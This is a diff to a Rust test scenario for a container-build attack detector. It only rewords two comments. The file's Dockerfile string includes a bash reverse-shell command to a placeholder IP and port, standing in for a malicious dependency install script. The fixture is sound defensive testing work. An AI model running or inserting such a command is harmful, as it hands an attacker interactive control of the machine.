@@ -1,11 +1,11 @@
-//! Attacks in a step of an image build, where much that would be drift elsewhere is ordinary.
+//! Attacks in a step of an image build, where much that is drift elsewhere is normal.
 
 use hullwatch::detect::Severity;
 
 use crate::scenarios::watch::{Watch, now};
 use crate::scenarios::{batch, docker, peer, ready};
 
-/// A package's install script that calls home, as in attacks by way of dependencies.
+/// A package's install script that connects to an attacker, as in supply-chain attacks.
 const STEPS: &str = "FROM hullwatch-test:servers\n\
     RUN echo ordinary >/etc/app.conf\n\
     RUN bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'; true\n";
